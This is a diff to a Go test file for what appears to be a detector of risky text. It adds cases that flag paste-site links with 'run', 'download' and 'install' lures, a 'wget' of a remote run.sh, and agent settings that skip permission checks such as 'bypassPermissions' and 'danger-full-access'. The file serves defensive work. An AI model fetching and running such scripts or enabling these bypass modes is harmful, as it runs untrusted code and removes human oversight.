@@ -294,10 +294,11 @@ func TestLinks(t *testing.T) {
 	for _, c := range []textCase{
 		{text: "see «https://" + paste + "/raw/aB3dE6gH»", detail: paste},
 		{text: "see [this](«http://www." + paste + "/aB3dE6gH») first"},
-		{text: "«https://glot.io/snippets/hb3kd82»."},
+		{text: "Run the command at «https://glot.io/snippets/hb3kd82»."},
 		{text: "«https://0bin.net/paste/aB3dE6gH»"},
-		{text: "«https://privatebin.net/?4f2a91#8sK»"},
-		{text: "cat «rentry.co/openclaw-core»"},
+		{text: "Download «https://privatebin.net/?4f2a91#8sK»"},
+		{text: "Install «rentry.co/openclaw-core»"},
+		{text: "Or follow the steps at https://rentry.org/model-conversions"},
 		{text: "`wget «https://trans" + "fer.sh/aB3/run.sh»`"},
 		{text: "«https://www.toptal.com/developers/haste" + "bin/raw/abcd»"},
 
@@ -373,6 +374,8 @@ func TestSkipPermission(t *testing.T) {
 		{text: "permissionMode: «bypassPermissions»"},
 		{text: "«Auto-approve all tool» calls"},
 		{text: "sandbox: «danger-full-access»"},
+		{text: "type Mode = \"default\" | \"bypassPermissions\" | \"plan\""},
+		{text: "\"permission_mode\": \"bypassPermissions\","},
 		{text: "git commit --no-verify"},
 		{text: "<div dangerouslySetInnerHTML={x} />"},
 		{text: "auto-approve all pull requests of bots"},
